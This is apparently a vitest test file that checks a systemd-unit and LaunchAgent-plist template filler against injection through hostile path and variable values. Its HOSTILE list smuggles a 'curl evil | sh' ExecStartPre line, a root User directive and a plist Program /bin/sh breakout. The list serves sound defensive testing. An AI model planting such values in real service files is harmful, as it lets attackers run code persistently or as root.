/**
 * Attacks on the filled service files: hostile machine paths and variables (newlines, `%`
 * specifiers, `$` expansions, quotes, backslashes, `]]>`, `<`, control characters) must neither
 * add a systemd directive nor an XML element, and must come back exactly when systemd or a plist
 * reader decodes them; what a place cannot hold is refused with a ServiceFileError, never written.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  fillServiceTemplate,
  launchAgentTemplate,
  PLACEHOLDERS,
  type Placeholder,
  ServiceFileError,
  systemdUnitTemplate,
} from './service-templates';

const SAFE: Record<Placeholder, string> = {
  NODE: '/usr/bin/node',
  LAUNCHER: '/home/mia/agent/launch.mjs',
  WORKSPACE: '/home/mia/ws',
  PATH: '/usr/bin:/bin',
  PORT: '7000',
  LOG_DIR: '/home/mia/.local/state/agentdef/notes',
};

const HOSTILE = [
  '/home/mia/ws\nExecStartPre=/bin/sh -c "curl evil | sh"',
  '/home/mia/ws\r\n[Service]\nUser=root',
  '/home/%h/%u/%%/ws',
  '/home/mia/"quoted" ws',
  '/home/mia/back\\slash\\',
  '/home/mia/$HOME/${PATH}/ws',
  '/home/mia/]]></string><key>Program</key><string>/bin/sh',
  '/home/mia/<!-- x -->/&amp;/ws',
  "/home/mia/it's\tthere",
  '/home/mia/\u001b]0;title\u0007/ws',
];

/** The lines of a filled systemd unit, reduced to their directive names (comments and sections kept as they are). */
const directives = (unit: string) =>
  unit
    .split('\n')
    .map((line) =>
      line.startsWith('#') || line.startsWith('[') || line === ''
        ? line.replace(/agentdef-.*$/, '')
        : line.slice(0, line.indexOf('=')),
    );

/** Decodes a double-quoted systemd word the way systemd does (C escapes, then `%%` and, in ExecStart, `$$`). */
function systemdWord(quoted: string, expandsVariables: boolean): string {
  expect(quoted.startsWith('"') && quoted.endsWith('"')).toBe(true);
  let out = '';
  const body = quoted.slice(1, -1);
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (ch === '"') throw new Error(`an unescaped quote ends the word early: ${quoted}`);
    if (ch === '\\') {
      const next = body[++i]!;
      if (next === 'n') out += '\n';
      else if (next === 't') out += '\t';
      else if (next === 'x') {
        out += String.fromCharCode(Number.parseInt(body.slice(i + 1, i + 3), 16));
        i += 2;
      } else out += next;
    } else if (ch === '%') {
      expect(body[++i], `a lone % is a specifier: ${quoted}`).toBe('%');
      out += '%';
    } else if (ch === '$' && expandsVariables) {
      expect(body[++i], `a lone $ expands a variable: ${quoted}`).toBe('$');
      out += '$';
    } else out += ch;
  }
  return out;
}

function unitValues(unit: string): { workspaceFromEnv: string; node: string; launcher: string; path: string } {
  const lines = unit.split('\n');
  const env = (name: string) =>
    systemdWord(
      lines
        .find((l) => l.startsWith(`Environment="${name}=`))!
        .slice('Environment='.length)
        .replace(`"${name}=`, '"'),
      false,
    );
  const exec = lines.find((l) => l.startsWith('ExecStart='))!.slice('ExecStart='.length);
  const words = [...exec.matchAll(/"(?:[^"\\]|\\.)*"/g)].map((m) => systemdWord(m[0], true));
  return { workspaceFromEnv: env('AGENTDEF_WORKSPACE'), path: env('PATH'), node: words[0]!, launcher: words[1]! };
}

const codes = (text: string) => [...text].map((c) => c.charCodeAt(0));

const xmlDecode = (text: string) =>
  text.replace(/&(#\d+|lt|gt|quot|apos|amp);/g, (_, entity: string) =>
    entity.startsWith('#')
      ? String.fromCharCode(Number(entity.slice(1)))
      : ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as Record<string, string>)[entity]!,
  );

describe('systemd unit with hostile values', () => {
  const template = systemdUnitTemplate('notes', '0.3.0', 512);

  it.each(HOSTILE)('quoted directives keep %j as one value, exactly, and add no directive', (hostile) => {
    // WorkingDirectory= cannot hold everything; the quoted directives can: attack them alone first.
    const values = { ...SAFE, NODE: hostile, LAUNCHER: hostile, PATH: hostile };
    const unit = fillServiceTemplate(template, 'systemd', values);
    expect(directives(unit)).toEqual(directives(fillServiceTemplate(template, 'systemd', SAFE)));
    const decoded = unitValues(unit);
    expect(decoded.node).toBe(hostile);
    expect(decoded.launcher).toBe(hostile);
    expect(decoded.path).toBe(hostile);
  });

  it.each(HOSTILE)('the workspace %j is either written exactly or refused', (hostile) => {
    let unit: string;
    try {
      unit = fillServiceTemplate(template, 'systemd', { ...SAFE, WORKSPACE: hostile });
    } catch (error) {
      expect(error).toBeInstanceOf(ServiceFileError);
      expect((error as Error).message).toMatch(/^the workspace path .* a systemd unit cannot hold it safely/);
      expect((error as Error).message).not.toContain(hostile);
      // Refused exactly when WorkingDirectory= (no quoting) cannot say it.
      expect(codes(hostile).some((c) => c < 0x20 || c === 0x7f) || /^\s|[\s\\]$/.test(hostile)).toBe(true);
      return;
    }
    expect(directives(unit)).toEqual(directives(fillServiceTemplate(template, 'systemd', SAFE)));
    expect(unitValues(unit).workspaceFromEnv).toBe(hostile);
    const working = unit
      .split('\n')
      .find((l) => l.startsWith('WorkingDirectory='))!
      .slice('WorkingDirectory='.length);
    expect(working.replace(/%%/g, '%')).toBe(hostile);
    expect(working.replace(/%%/g, '')).not.toContain('%');
  });

  it('any value: one line per template line, and every quoted value decodes to itself (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (value) => {
        const hostile = `/x/${value}`;
        let unit: string;
        try {
          unit = fillServiceTemplate(template, 'systemd', { ...SAFE, NODE: hostile, PATH: hostile });
        } catch (error) {
          expect(error).toBeInstanceOf(ServiceFileError);
          expect(/[\ud800-\udfff]/.test(hostile)).toBe(true); // only text that is not Unicode is refused here
          return;
        }
        expect(directives(unit)).toEqual(directives(fillServiceTemplate(template, 'systemd', SAFE)));
        expect(unitValues(unit).node).toBe(hostile);
        expect(unitValues(unit).path).toBe(hostile);
      }),
      { numRuns: 300 },
    );
  });
});

describe('LaunchAgent plist with hostile values', () => {
  const template = launchAgentTemplate('notes', '0.3.0', 512);
  const tags = (plist: string) => [...plist.matchAll(/<\/?[A-Za-z!?][^>]*>/g)].map((m) => m[0]);

  it.each(HOSTILE)('%j becomes element text, exactly, or is refused', (hostile) => {
    const values = Object.fromEntries(
      PLACEHOLDERS.map((name) => [name, name === 'PORT' ? SAFE.PORT : hostile]),
    ) as Record<Placeholder, string>;
    let plist: string;
    try {
      plist = fillServiceTemplate(template, 'launchd', values);
    } catch (error) {
      expect(error).toBeInstanceOf(ServiceFileError);
      expect((error as Error).message).not.toContain(hostile);
      expect(codes(hostile).some((c) => c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d)).toBe(true);
      return;
    }
    // The same elements as with safe values: nothing opened, closed or commented out.
    expect(tags(plist)).toEqual(tags(fillServiceTemplate(template, 'launchd', SAFE)));
    expect(plist).not.toContain(']]>');
    const strings = [...plist.matchAll(/<string>([^<]*)<\/string>/g)].map((m) => xmlDecode(m[1]!));
    expect(strings).toContain(hostile);
    expect(strings).toContain(`${hostile}/launcher.log`);
  });

  it('is well-formed XML for any version: no `--` inside a comment (1.0.0-a--b is a valid version)', () => {
    for (const version of ['0.3.0', '1.0.0-a--b', '1.0.0-rc---1+build--7', '1.0.0--']) {
      const plist = fillServiceTemplate(launchAgentTemplate('notes', version, 512), 'launchd', SAFE);
      const comments = [...plist.matchAll(/<!--([\s\S]*?)-->/g)].map((m) => m[1]!);
      expect(comments.length).toBeGreaterThan(0);
      for (const comment of comments) {
        expect(comment).not.toContain('--');
        expect(comment.endsWith('-')).toBe(false);
      }
      // Nothing outside the comments but elements and text.
      expect(plist.replace(/<!--[\s\S]*?-->/g, '')).not.toContain('<!--');
    }
  });

  it('refuses an unpaired surrogate in any place', () => {
    expect(() => fillServiceTemplate(template, 'launchd', { ...SAFE, WORKSPACE: '/ws/\ud800' })).toThrow(
      ServiceFileError,
    );
    expect(() =>
      fillServiceTemplate(systemdUnitTemplate('notes', '0.3.0'), 'systemd', { ...SAFE, LOG_DIR: '/log/\udc00' }),
    ).toThrow(ServiceFileError);
  });
});
